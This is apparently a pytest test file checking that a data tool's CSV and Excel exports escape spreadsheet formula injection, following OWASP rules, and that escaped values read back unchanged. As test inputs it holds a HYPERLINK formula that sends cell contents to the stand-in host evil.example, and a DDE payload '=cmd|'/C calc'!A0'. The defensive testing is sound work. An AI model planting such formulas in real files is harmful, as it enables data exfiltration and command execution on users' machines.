"""Issue 14, item 5: no CSV or workbook endvac writes carries a live formula, and an
exported strategy workbook imports back unchanged."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from endvac.cli.main import app
from endvac.cli.render import OutputFormat, render
from endvac.linkage.review import read_decisions
from endvac.strategy.files import export_strategy, import_strategy, stored_strategy
from endvac.tabular import csv_text, safe_cell, unescape_cell
from endvac.web.restricted import AlertsView, alerts_csv
from endvac.workspace import Workspace
from test_strategy_checks import STRATEGY_YAML

TITLE = "National Strategy to End Violence against Children 2024-2030"
EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"),  # OWASP: = + - @ tab and CR start a formula
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("a=1", "a=1"),  # only the first character counts
    ("", ""),
    (-5, -5),  # a number is never a formula
    (None, None),
])
def test_safe_cell_follows_owasp(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def test_csv_text_escapes_and_quotes() -> None:
    text = csv_text(["id", "note"], [["=cmd|'/C calc'!A0", "a,b"], ["F1", None]])
    # the formula gets a leading quote; "a,b" is quoted by the CSV writer; None is empty
    assert text == "id,note\n'=cmd|'/C calc'!A0,\"a,b\"\nF1,\n"


def test_listing_csv_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    render([{"facility_id": "=cmd|'/C calc'!A0", "region": "@A1", "over": -3}],
           OutputFormat.csv)
    assert capsys.readouterr().out == "facility_id,region,over\n'=cmd|'/C calc'!A0,'@A1,-3\n"


def test_alerts_export_is_escaped() -> None:
    view = AlertsView.model_construct(alerts=[
        {"rule": "R1", "facility_id": "+F1", "region": "-D1", "elapsed": 3.5}])
    text, rows = alerts_csv(view)
    lines = text.splitlines()
    header = lines[0].split(",")
    cells = dict(zip(header, lines[1].split(","), strict=True))
    assert rows == 1
    assert (cells["facility_id"], cells["region"], cells["elapsed"]) == ("'+F1", "'-D1", "3.5")


def _strategy_with_title(ws: Workspace, tmp_path: Path, title: str) -> None:
    source = tmp_path / "in.yaml"
    source.write_text(STRATEGY_YAML.replace(TITLE, title.replace('"', '\\"').join('""')),
                      encoding="utf-8")
    assert import_strategy(ws, source).findings == []


def test_strategy_workbook_holds_text_not_formulas_and_imports_back(
        ws: Workspace, tmp_path: Path) -> None:
    _strategy_with_title(ws, tmp_path, EVIL_TITLE)
    before = stored_strategy(ws)
    assert before.strategy.title == EVIL_TITLE
    export_strategy(ws, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells = [c for row in book["strategy"].iter_rows() for c in row]
    title = next(c for c in cells if c.value == EVIL_TITLE)
    assert title.data_type == "s"  # a string cell, not 'f' (formula)
    assert not any(c.data_type == "f" for s in book.worksheets for r in s.iter_rows() for c in r)
    # today's failure: "column title: Field required" (the formula had no cached value)
    result = import_strategy(ws, tmp_path / "out.xlsx")
    assert result.findings == []
    assert stored_strategy(ws) == before


def test_strategy_show_csv_is_escaped(ws: Workspace, tmp_path: Path) -> None:
    _strategy_with_title(ws, tmp_path, "=1+2")
    out = CliRunner().invoke(app, ["strategy", "show", str(ws.root), "--part", "strategy",
                                   "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert "'=1+2" in out.output
    assert ",=1+2" not in out.output and not out.output.startswith("=")


def test_api_alerts_export_escapes_a_stored_formula(tmp_path: Path) -> None:
    """A facility_id stored before ids were validated (here: written into a newer
    snapshot) comes out of /api/exports/alerts.csv escaped."""
    import csv
    import io

    import pyarrow as pa
    from fastapi.testclient import TestClient

    from endvac.publish import load_snapshot
    from endvac.publish.store import write_snapshot
    from endvac.web import create_app
    from web_helpers import logged_in, web_workspace

    _, ws = web_workspace(tmp_path)
    snapshot = load_snapshot(ws)
    alerts = snapshot.tables["alerts"]
    assert alerts.num_rows > 0
    evil = pa.array(["=cmd|'/C calc'!A0"] * alerts.num_rows, pa.string())
    tables = {**snapshot.tables, "alerts": alerts.set_column(
        alerts.schema.get_field_index("facility_id"), "facility_id", evil)}
    meta = {k: v for k, v in snapshot.meta.items() if k not in ("snapshot", "tables")}
    write_snapshot(ws.root, meta, tables)
    client = logged_in(TestClient(create_app(ws), base_url="https://testserver"), "an")
    answer = client.get("/api/exports/alerts.csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert rows and {r["facility_id"] for r in rows} == {"'=cmd|'/C calc'!A0"}


@pytest.mark.parametrize(("written", "read"), [
    ("'=R1", "=R1"),  # safe_cell's quote in front of a formula start comes off
    ("'-7", "-7"),
    ("'R1", "'R1"),  # a quote the agency delivered (not before a formula start) stays
    ("R1", "R1"),
])
def test_unescape_cell_reverses_safe_cell_only(written: str, read: str) -> None:
    assert unescape_cell(written) == read


def test_link_review_decisions_read_escaped_ids_back(tmp_path: Path) -> None:
    # a record id delivered as "-0042" is written "'-0042" in the review file; the
    # reviewer's decision on that row names the delivered record
    path = tmp_path / "decisions.csv"
    path.write_text("agency_l,record_id_l,agency_r,record_id_r,decision\n"
                    "police,'-0042,court,K7,must_link\n", encoding="utf-8")
    known = {("police", "-0042"), ("court", "K7")}
    assert read_decisions(path, known) == [["must_link", "police", "-0042", "court", "K7"]]
